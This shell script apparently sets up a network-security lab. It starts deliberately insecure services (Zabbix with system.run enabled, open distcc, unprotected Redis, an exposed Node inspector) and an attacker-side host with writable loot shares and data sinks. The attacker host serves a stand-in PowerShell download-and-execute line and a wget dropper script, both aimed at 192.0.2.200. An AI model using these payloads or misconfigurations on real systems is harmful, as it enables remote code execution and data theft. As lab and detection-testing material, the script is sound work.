# Servers of the workshop that ../services.sh lacks: open and guarded services inside (app), and what intruders keep outside (boss). Sourced by ../armory.sh.
# shellcheck shell=bash

ARMORY_PACKAGES=(mosquitto mosquitto-clients slapd ldap-utils freeradius freeradius-utils zabbix-agent distcc php-cli php8.2-fpm libfcgi-bin ngircd rsync git atftpd tftp-hpa telnet expect tcptraceroute dropbear-bin bind9-host lftp
    netcat-traditional pnscan scanssh doscan nast packit netwox dmitry smbmap snmp redis-tools brutespray httpie wget2 swaks iperf dnsperf sipsak arjun wig
    ptunnel-ng ii stunnel4 iputils-arping python3-scapy python3-impacket gawk pv)
ARMORY_NPM=${ARMORY_NPM:-/var/tmp/nethawk-lab-npm}
NPM_PACKAGES=(evilscan@1.9.1 autocannon@8 loadtest@8 node-port-scanner@3 ssh2 ws socket.io socket.io-client mqtt)

# Node from wherever it is; where there is none, Debian's.
need_npm() {
    command -v npm >/dev/null || need_packages nodejs npm
    [ -x "$ARMORY_NPM/node_modules/.bin/evilscan" ] || npm install --prefix "$ARMORY_NPM" --no-audit --no-fund --ignore-scripts "${NPM_PACKAGES[@]}" >&2
}

start_app() {
    local d=$LAB_DIR i
    printf 'listener 1883 0.0.0.0\nallow_anonymous false\npassword_file %s/mqtt-users\n' "$d" >"$d/mqtt.conf"
    touch "$d/mqtt-users"; mosquitto_passwd -b "$d/mqtt-users" gateway never-guessed-here; chmod 644 "$d/mqtt-users"
    ns_start app mosquitto -c "$d/mqtt.conf"
    mkdir -p "$d/ldap"
    printf 'include /etc/ldap/schema/core.schema\nmodulepath /usr/lib/ldap\nmoduleload back_mdb\npidfile %s/slapd.pid\ndatabase mdb\nsuffix "dc=works,dc=example"\nrootdn "cn=admin,dc=works,dc=example"\nrootpw never-guessed-here\ndirectory %s/ldap\n' "$d" "$d" >"$d/slapd.conf"
    ns_start app slapd -d 0 -h ldap://0.0.0.0 -f "$d/slapd.conf"
    cp -rL /etc/freeradius/3.0 "$d/radius"; printf 'client all {\n ipaddr = 0.0.0.0/0\n secret = testing123\n}\n' >>"$d/radius/clients.conf"; chmod -R a+rX "$d/radius"
    sandboxed app sh -c 'mkdir -p /run/freeradius /var/log/freeradius; chmod 777 /run/freeradius /var/log/freeradius; exec freeradius -f -d "$1"' sh "$d/radius"
    ns_start app redis-server --port 6379 --save '' --dir "$d" --protected-mode no --enable-protected-configs yes
    printf 'LogType=console\nServer=0.0.0.0/0\nAllowKey=system.run[*]\nPidFile=%s/zabbix.pid\nAllowRoot=1\nHostname=app\n' "$d" >"$d/zabbix.conf"
    ns_start app zabbix_agentd -f -c "$d/zabbix.conf"
    ns_start app distccd --no-detach --daemon --allow 0.0.0.0/0 --log-stderr --make-me-a-botnet
    printf 'agentAddress udp:161\nrwcommunity private\nrocommunity public\n' >"$d/snmp-app.conf"
    sandboxed app snmpd -f -Lo -C -c "$d/snmp-app.conf"
    ns_start app node --inspect=0.0.0.0:9229 -e 'setInterval(()=>{},1000)'
    mkdir -p "$d/php"
    printf '<?php echo "<html><body>Catalogue ".htmlspecialchars($_GET["q"] ?? "")."</body></html>";' >"$d/php/index.php"
    printf '<html><body>Workshop</body></html>' >"$d/php/plain.html"; chmod -R a+rX "$d/php"
    ns_start app php -S 0.0.0.0:8080 -t "$d/php"
    printf '[global]\nerror_log=%s/fpm.log\ndaemonize=no\n[www]\nuser=nobody\ngroup=nogroup\nlisten=0.0.0.0:9000\npm=static\npm.max_children=2\n' "$d" >"$d/fpm.conf"
    ns_start app php-fpm8.2 -F -y "$d/fpm.conf"
    ns_start app socat -u UDP-RECV:5060 /dev/null
}

start_boss() {
    local d=$LAB_DIR
    mkdir -p "$d/loot" "$d/loot/git.git" "$d/serve"; chmod 777 "$d/loot"
    cp /bin/ls "$d/serve/update.bin"; cp /bin/ls "$d/serve/x86"; printf '$c=New-Object Net.Sockets.TCPClient("192.0.2.200",4444);$s=$c.GetStream();[byte[]]$b=0..65535|%%{0};IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.200/a")\n' >"$d/serve/a.ps1"
    printf '#!/bin/sh\ncd /tmp || cd /var/run; wget http://192.0.2.200:8000/x86; chmod 777 x86; ./x86 scan; rm -f x86\n' >"$d/serve/bins.sh"; chmod -R a+rX "$d/serve"
    ns_start boss python3 -m http.server 8000 --bind 192.0.2.200 -d "$d/serve"
    start_sshd boss
    printf 'use chroot = no\nuid = root\ngid = root\n[loot]\npath = %s/loot\nread only = no\n' "$d" >"$d/rsyncd.conf"
    ns_start boss rsync --daemon --no-detach --config="$d/rsyncd.conf" --port=873
    git init -q --bare "$d/loot/git.git"; ns_start boss git daemon --reuseaddr --export-all --enable=receive-pack --base-path="$d/loot" "$d/loot"
    ns_start boss atftpd --daemon --no-fork --logfile - "$d/loot"
    printf '[Global]\nName=irc.example\nInfo=x\nListen=0.0.0.0\nPorts=6667\nServerUID=irc\nServerGID=irc\n[Options]\nIdent=no\nPAM=no\nDNS=no\n' >"$d/irc.conf"
    sandboxed boss sh -c 'mkdir -p /run/ngircd && chown irc /run/ngircd; exec ngircd -n -f "$1"' sh "$d/irc.conf"
    printf 'listener 1883 0.0.0.0\nallow_anonymous true\nmessage_size_limit 0\n' >"$d/mqtt-boss.conf"
    ns_start boss mosquitto -c "$d/mqtt-boss.conf"
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 -subj /CN=files.example -keyout "$d/boss.key" -out "$d/boss.crt" 2>/dev/null
    cat >"$d/boss-nginx.conf" <<CONF
worker_processes 1; daemon off; pid /run/nginx.pid; error_log /var/log/nginx/error.log;
events { worker_connections 512; }
http { access_log off; client_max_body_size 0; client_body_temp_path $d/loot/t; proxy_temp_path /run/proxy; fastcgi_temp_path /run/fcgi; uwsgi_temp_path /run/uwsgi; scgi_temp_path /run/scgi;
  server { listen 80; listen [::]:80; listen 443 ssl; listen [::]:443 ssl; ssl_certificate $d/boss.crt; ssl_certificate_key $d/boss.key;
    location /dav/ { alias $d/loot/; dav_methods PUT DELETE MKCOL; create_full_put_path on; } location /up { proxy_pass http://127.0.0.1:81; } location / { return 200 "ok"; } }
  server { listen 127.0.0.1:81; location / { return 200 "ok"; } } }
CONF
    sandboxed boss nginx -c "$d/boss-nginx.conf"
    printf '[global]\nworkgroup=X\nmap to guest=bad user\nguest account=nobody\nprivate dir=/run\nlock directory=/run\nstate directory=/run\ncache directory=/run\npid directory=/run\nncalrpc dir=/run/ncalrpc\nlog file=/run/smb.log\n[loot]\npath=%s/loot\nguest ok=yes\nwritable=yes\n[serve]\npath=%s/serve\nguest ok=yes\n' "$d" "$d" >"$d/boss-smb.conf"
    sandboxed boss smbd -F --no-process-group -s "$d/boss-smb.conf"
    ns_start boss python3 "$LAB_HOME/tools/smtp_server.py" 25
    ns_start boss redis-server --port 6379 --save '' --dir "$d" --protected-mode no --enable-protected-configs yes
    mkdir -p "$d/drop/up"; cp /bin/ls "$d/drop/x86"; chmod 644 "$d/drop/x86"; chmod 777 "$d/drop/up"
    printf 'listen=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\nanon_root=%s\nsecure_chroot_dir=/run/empty\nbackground=NO\nseccomp_sandbox=NO\n' "$d/drop" >"$d/drop.conf"
    sandboxed boss sh -c 'mkdir -p /run/empty && exec vsftpd "$1"' sh "$d/drop.conf"
    # Sinks: whatever comes is taken.
    ns_start boss socat -u TCP-LISTEN:9001,fork,reuseaddr /dev/null
    ns_start boss socat -u TCP6-LISTEN:9002,fork,reuseaddr,ipv6only=1 /dev/null
    ns_start boss socat -u OPENSSL-LISTEN:9003,fork,reuseaddr,cert="$d/boss.crt",key="$d/boss.key",verify=0 /dev/null
    ns_start boss socat -u UDP-RECV:514 /dev/null
}
